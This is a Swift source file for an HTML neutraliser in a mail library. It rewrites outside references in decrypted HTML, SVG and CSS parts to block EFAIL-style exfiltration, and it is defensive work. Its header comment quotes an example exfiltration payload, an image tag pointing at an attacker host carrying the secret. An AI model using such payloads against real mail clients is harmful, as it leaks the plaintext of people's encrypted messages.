import MIME

/// Neutralises the references in HTML (and SVG, XHTML) that make a mail client
/// fetch something from elsewhere, for markup decrypted from unauthenticated
/// ciphertext: EFAIL's CBC gadgets turn a captured message into
/// `<img src="//attacker/?SECRET">`, and a client that loads the image sends the
/// secret away.
///
/// The scan is context-free on purpose, so that a parser that disagrees with a
/// mail client's about comments, raw-text elements or quoting cannot hide a
/// reference: every `name=value` pair anywhere in the bytes is looked at.
/// - URL attributes (`src`, `href`, `srcset`, `background`, `poster`, `action`,
///   `data`, `cite`, any `…src` or `…href`, …): the value is kept only when it stays
///   in the message — `cid:`, `mid:`, `#fragment`, `mailto:`, `data:image/` (not SVG)
///   or empty — after entity decoding and with white space and controls removed;
///   anything else (a host, `//host`, a relative URL a `<base>` could make remote)
///   becomes `#blocked`.
/// - `srcset`: every candidate must stay, or the whole value becomes `#blocked`.
/// - SVG/SMIL animation values (`to`, `from`, `by`, `values`) that name another place become `#blocked`.
/// - `content` values that can refresh to a URL (`<meta http-equiv=refresh>`) become `#blocked`.
/// - CSS (`style` attributes, any attribute holding `(`, `<style>` elements): `url(…)`
///   and `src(…)` that leave the message become `url(#blocked)`, strings that look
///   like URLs (`@import "…"`, `image-set("…")`) become `"#blocked"`, and CSS with a
///   backslash escape (or, in a `<style>` element, an entity) is dropped whole,
///   since escapes can spell `url(` in ways a scan does not see.
/// Values that are replaced are gone from the output, so nothing inside them survives.
public enum HTMLNeutraliser {
    static let blocked = Array("#blocked".utf8)

    /// Media types rendered as markup, whose references a client may load.
    static let markupTypes: Set<String> = [
        "text/html", "application/xhtml+xml", "image/svg+xml", "text/xml", "application/xml",
    ]

    /// `html` with its outside references neutralised, and how many values were changed.
    public static func neutralise(_ html: [UInt8]) -> (html: [UInt8], count: Int) {
        let (styled, styleCount) = neutraliseStyleElements(html)
        let (out, attributeCount) = neutraliseAttributes(styled)
        return (out, styleCount + attributeCount)
    }

    /// `entity` with every markup part neutralised, at any depth of multipart or attached
    /// message (a multipart/digest's parts are messages by default); transfer encodings are
    /// kept. A markup part in a charset that is not ASCII compatible (UTF-16, UTF-7,
    /// ISO-2022, ...) is made text/plain instead, since a byte scan cannot read it.
    public static func neutraliseParts(of entity: Entity) -> (entity: Entity, count: Int) {
        neutraliseParts(entity, depth: 0)
    }

    static func neutraliseParts(_ entity: Entity, depth: Int, inDigest: Bool = false) -> (entity: Entity, count: Int) {
        guard depth < MIMELimits.standard.maxDepth else { return (entity, 0) }
        let type = contentType(of: entity, inDigest: inDigest)
        var copy = entity
        if type.isMultipart {
            guard let boundary = type["boundary"], var multipart = try? Multipart.parse(entity.body, boundary: boundary)
            else { return (entity, 0) }
            var total = 0
            for index in multipart.parts.indices where !multipart.parts[index].isEmpty {
                guard let part = try? Entity.parse(multipart.parts[index], allowEmptyHeader: true) else { continue }
                let (changed, count) = neutraliseParts(
                    part, depth: depth + 1, inDigest: type.mediaType == "multipart/digest")
                if count > 0 {
                    multipart.parts[index] = changed.serialized()
                    total += count
                }
            }
            if total > 0 { copy.body = multipart.serialized(entity.lineEnding) }
            return (copy, total)
        }
        if type.mediaType == "message/rfc822" {
            guard let inner = try? Entity.parse(entity.body) else { return (entity, 0) }
            let (changed, count) = neutraliseParts(inner, depth: depth + 1)
            if count > 0 { copy.body = changed.serialized() }
            return (copy, count)
        }
        guard markupTypes.contains(type.mediaType) else { return (entity, 0) }
        guard isASCIICompatible(type["charset"]?.lowercased() ?? ""), let decoded = try? entity.decodedBody() else {
            var plain = type
            (plain.type, plain.subtype) = ("text", "plain")
            copy.setField("Content-Type", plain.headerValue)
            return (copy, 1)
        }
        let (html, count) = neutralise(decoded)
        guard count > 0 else { return (entity, 0) }
        switch entity.transferEncoding {
        case "base64": copy.body = Base64.encode(html, ending: entity.lineEnding)
        case "quoted-printable": copy.body = QuotedPrintable.encode(html, ending: entity.lineEnding)
        default: copy.body = html
        }
        return (copy, count)
    }

    /// The Content-Type of `entity`; in a multipart/digest, a part without one is a
    /// message/rfc822 (RFC 2046 §5.1.5).
    static func contentType(of entity: Entity, inDigest: Bool) -> ContentType {
        if inDigest, entity.field("Content-Type") == nil { return ContentType(type: "message", subtype: "rfc822") }
        return entity.contentType
    }

    static func isASCIICompatible(_ charset: String) -> Bool {
        ![
            "utf-16", "utf-32", "ucs-", "utf-7", "unicode-1-1-utf-7", "csunicode", "iso-2022", "csiso2022",
        ].contains { charset.hasPrefix($0) }
    }

    // MARK: Attributes

    static func neutraliseAttributes(_ input: [UInt8]) -> ([UInt8], Int) {
        var out: [UInt8] = []
        out.reserveCapacity(input.count)
        var count = 0
        var i = 0
        while i < input.count {
            guard input[i] == UInt8(ascii: "=") else {
                out.append(input[i])
                i += 1
                continue
            }
            let name = attributeName(before: i, in: input)
            var start = i + 1
            while start < input.count, isSpace(input[start]) { start += 1 }
            let quote = start < input.count && (input[start] == 34 || input[start] == 39) ? input[start] : nil
            if quote != nil { start += 1 }
            var end = start
            if let quote {
                while end < input.count, input[end] != quote { end += 1 }
            } else {
                while end < input.count, !isSpace(input[end]), input[end] != UInt8(ascii: ">") { end += 1 }
            }
            guard let replacement = rewrite(name: name, value: Array(input[start..<end]), quoted: quote != nil) else {
                out.append(input[i])
                i += 1
                continue
            }
            out += input[i..<start]
            out += replacement
            if let quote { out.append(quote) }
            i = quote != nil && end < input.count ? end + 1 : end
            count += 1
        }
        return (out, count)
    }

    /// The new value for an attribute, nil to keep it.
    static func rewrite(name: String, value: [UInt8], quoted: Bool) -> [UInt8]? {
        let decoded = decodeEntities(value)
        if name.hasSuffix("srcset") { return srcsetStaysInMessage(decoded) ? nil : blocked }
        if isURLAttribute(name) { return staysInMessage(decoded) ? nil : blocked }
        if animationAttributes.contains(name) {
            return decoded.split(separator: UInt8(ascii: ";")).allSatisfy { animationValueStays(Array($0)) }
                ? nil : blocked
        }
        if name == "content" {
            let text = String(decoding: decoded, as: UTF8.self).lowercased()
            let refresh = text.contains("url") || text.drop { $0 == " " }.first?.isNumber == true
            return refresh ? blocked : nil
        }
        guard name == "style" || decoded.contains(UInt8(ascii: "(")), let css = neutraliseCSS(decoded) else {
            return nil
        }
        let encoded = encodeAttribute(css)
        return quoted ? encoded : [34] + encoded + [34]
    }

    static let urlAttributes: Set<String> = [
        "src", "href", "srcset", "imagesrcset", "background", "poster", "action", "formaction", "data", "codebase",
        "cite", "longdesc", "lowsrc", "dynsrc", "ping", "manifest", "icon", "profile", "usemap", "classid",
        "archive", "itemtype", "xml:base",
    ]

    /// SVG/SMIL animation values (`<set attributeName="href" to="…">`; `values` is a `;` list).
    static let animationAttributes: Set<String> = ["to", "from", "by", "values"]

    /// An animation value stays when it stays in the message or cannot name another place:
    /// with no `:`, `/` or `\\` it is a number, colour, path or a relative reference, and
    /// a relative one could only leave through a `<base>`, which is neutralised.
    static func animationValueStays(_ value: [UInt8]) -> Bool {
        staysInMessage(value) || !value.contains { $0 == UInt8(ascii: ":") || $0 == UInt8(ascii: "/") || $0 == 92 }
    }

    /// True when every candidate of a `srcset` stays in the message. Candidates are URLs
    /// separated by white space and commas; so that no reading of the list (the HTML one,
    /// which keeps commas inside a URL, or a naive split on commas) finds a URL that
    /// leaves, every comma-separated piece of every word must be empty, a descriptor
    /// (`2x`, `640w`) or a reference that stays — except the payload after a `data:` URL's comma.
    static func srcsetStaysInMessage(_ value: [UInt8]) -> Bool {
        let words = value.split { isSpace($0) }
        return words.allSatisfy { word in
            let pieces = word.split(separator: UInt8(ascii: ","), omittingEmptySubsequences: false).map { Array($0) }
            let isData = matches(Array("data:".utf8), in: pieces[0], at: 0)
            return pieces.enumerated().allSatisfy { index, piece in
                piece.isEmpty || (isData && index == 1) || isDescriptor(piece) || staysInMessage(piece)
            }
        }
    }

    /// `1x`, `1.5x`, `640w`, `100h`.
    static func isDescriptor(_ piece: [UInt8]) -> Bool {
        guard let last = piece.last, "wxhWXH".utf8.contains(last), piece.count > 1 else { return false }
        return piece.dropLast().allSatisfy { ($0 >= 48 && $0 <= 57) || "+-.eE".utf8.contains($0) }
    }

    static func isURLAttribute(_ name: String) -> Bool {
        urlAttributes.contains(name) || name.hasSuffix("src") || name.hasSuffix("href") || name.hasSuffix("srcset")
    }

    /// The attribute name that ends before `=` at `index` (after optional white space), lower-cased.
    static func attributeName(before index: Int, in input: [UInt8]) -> String {
        var end = index
        while end > 0, isSpace(input[end - 1]) { end -= 1 }
        var start = end
        while start > 0, !isSpace(input[start - 1]), !"/<>\"'=".utf8.contains(input[start - 1]) { start -= 1 }
        return String(decoding: input[start..<end].map { $0 >= 65 && $0 <= 90 ? $0 + 32 : $0 }, as: UTF8.self)
    }

    /// True for references that stay inside the message (or do nothing).
    static func staysInMessage(_ value: [UInt8]) -> Bool {
        let compact = value.filter { $0 > 32 && $0 != 127 }.map { $0 >= 65 && $0 <= 90 ? $0 + 32 : $0 }
        if compact.isEmpty { return true }
        let text = String(decoding: compact, as: UTF8.self)
        if text.hasPrefix("data:image/") { return !text.hasPrefix("data:image/svg") }
        return ["#", "cid:", "mid:", "mailto:"].contains { text.hasPrefix($0) }
    }

    // MARK: CSS

    static func neutraliseStyleElements(_ input: [UInt8]) -> ([UInt8], Int) {
        let open = Array("<style".utf8)
        let close = Array("</style".utf8)
        var out: [UInt8] = []
        var count = 0
        var i = 0
        while i < input.count {
            guard matches(open, in: input, at: i), i + open.count == input.count || isTagNameEnd(input[i + open.count]),
                let tagEnd = input[(i + open.count)...].firstIndex(of: UInt8(ascii: ">"))
            else {
                out.append(input[i])
                i += 1
                continue
            }
            var end = tagEnd + 1
            while end < input.count, !matches(close, in: input, at: end) { end += 1 }
            out += input[i...tagEnd]
            let css = Array(input[(tagEnd + 1)..<end])
            if css.contains(UInt8(ascii: "&")) {
                count += 1
            } else if let changed = neutraliseCSS(css) {
                out += changed
                count += 1
            } else {
                out += css
            }
            i = end
        }
        return (out, count)
    }

    /// `css` with its outside references replaced; nil when nothing needed replacing.
    static func neutraliseCSS(_ css: [UInt8]) -> [UInt8]? {
        if css.contains(UInt8(ascii: "\\")) { return [] }
        var out: [UInt8] = []
        var changed = false
        var i = 0
        while i < css.count {
            let byte = css[i]
            if matches(Array("url(".utf8), in: css, at: i) || matches(Array("src(".utf8), in: css, at: i) {
                var end = i + 4
                var quote: UInt8? = nil
                while end < css.count, css[end] != UInt8(ascii: ")") || quote != nil {
                    if css[end] == 34 || css[end] == 39 {
                        quote = quote == nil ? css[end] : (quote == css[end] ? nil : quote)
                    }
                    end += 1
                }
                let target = css[(i + 4)..<end].filter { $0 != 34 && $0 != 39 }
                if staysInMessage(target) {
                    out += css[i..<min(end + 1, css.count)]
                } else {
                    out += Array("url(#blocked)".utf8)
                    changed = true
                }
                i = end + 1
            } else if byte == 34 || byte == 39 {
                var end = i + 1
                while end < css.count, css[end] != byte { end += 1 }
                let content = Array(css[(i + 1)..<end])
                let lower = content.map { $0 >= 65 && $0 <= 90 ? $0 + 32 : $0 }
                let looksLikeURL =
                    content.contains(UInt8(ascii: "/")) || content.contains(UInt8(ascii: ":"))
                    || matches(Array("url(".utf8), in: lower, anywhere: true)
                if looksLikeURL && !staysInMessage(content) {
                    out += [byte] + blocked + [byte]
                    changed = true
                } else {
                    out += css[i..<min(end + 1, css.count)]
                }
                i = end + 1
            } else {
                out.append(byte)
                i += 1
            }
        }
        return changed ? out : nil
    }

    // MARK: Bytes

    static func isSpace(_ byte: UInt8) -> Bool { byte == 32 || byte == 9 || byte == 10 || byte == 12 || byte == 13 }

    static func isTagNameEnd(_ byte: UInt8) -> Bool {
        isSpace(byte) || byte == UInt8(ascii: ">") || byte == UInt8(ascii: "/")
    }

    /// ASCII case-insensitive match of lower-case `pattern` at `index` (or anywhere).
    static func matches(_ pattern: [UInt8], in bytes: [UInt8], at index: Int) -> Bool {
        guard index + pattern.count <= bytes.count else { return false }
        for (offset, expected) in pattern.enumerated() {
            let byte = bytes[index + offset]
            if (byte >= 65 && byte <= 90 ? byte + 32 : byte) != expected { return false }
        }
        return true
    }

    static func matches(_ pattern: [UInt8], in bytes: [UInt8], anywhere: Bool) -> Bool {
        bytes.indices.contains { matches(pattern, in: bytes, at: $0) }
    }

    static func encodeAttribute(_ text: [UInt8]) -> [UInt8] {
        var out: [UInt8] = []
        for byte in text {
            switch byte {
            case UInt8(ascii: "&"): out += Array("&amp;".utf8)
            case 34: out += Array("&quot;".utf8)
            case 39: out += Array("&#39;".utf8)
            case UInt8(ascii: "<"): out += Array("&lt;".utf8)
            case UInt8(ascii: ">"): out += Array("&gt;".utf8)
            default: out.append(byte)
            }
        }
        return out
    }

    /// Character references (HTML §13.5) in an attribute value: numeric ones, and the
    /// named ones that can spell a URL, with their semicolon. Unknown ones stay as written.
    static func decodeEntities(_ value: [UInt8]) -> [UInt8] {
        guard value.contains(UInt8(ascii: "&")) else { return value }
        var out: [UInt8] = []
        var i = 0
        while i < value.count {
            guard value[i] == UInt8(ascii: "&"), let (scalar, length) = reference(in: value, at: i) else {
                out.append(value[i])
                i += 1
                continue
            }
            out += Array(String(Character(scalar)).utf8)
            i += length
        }
        return out
    }

    static let named: [String: Unicode.Scalar] = [
        "amp": "&", "lt": "<", "gt": ">", "quot": "\"", "apos": "'", "colon": ":", "sol": "/", "bsol": "\\",
        "Tab": "\t", "NewLine": "\n", "period": ".", "lpar": "(", "rpar": ")", "num": "#", "commat": "@",
        "nbsp": "\u{A0}", "excl": "!", "quest": "?", "equals": "=", "percnt": "%", "lowbar": "_", "dollar": "$",
    ]

    static func reference(in value: [UInt8], at index: Int) -> (Unicode.Scalar, Int)? {
        var i = index + 1
        if i < value.count, value[i] == UInt8(ascii: "#") {
            i += 1
            let hex = i < value.count && (value[i] == UInt8(ascii: "x") || value[i] == UInt8(ascii: "X"))
            if hex { i += 1 }
            let start = i
            var number: UInt32 = 0
            while i < value.count, i - start < 8, let digit = hexDigit(value[i], hex: hex) {
                number = number * (hex ? 16 : 10) + digit
                i += 1
            }
            guard i > start else { return nil }
            if i < value.count, value[i] == UInt8(ascii: ";") { i += 1 }
            return (Unicode.Scalar(number) ?? "\u{FFFD}", i - index)
        }
        let start = i
        while i < value.count, i - start < 16, (value[i] | 32) >= 97 && (value[i] | 32) <= 122 { i += 1 }
        guard i < value.count, value[i] == UInt8(ascii: ";"),
            let scalar = named[String(decoding: value[start..<i], as: UTF8.self)]
        else { return nil }
        return (scalar, i + 1 - index)
    }

    static func hexDigit(_ byte: UInt8, hex: Bool) -> UInt32? {
        switch byte {
        case 48...57: UInt32(byte - 48)
        case 97...102 where hex: UInt32(byte - 87)
        case 65...70 where hex: UInt32(byte - 55)
        default: nil
        }
    }
}
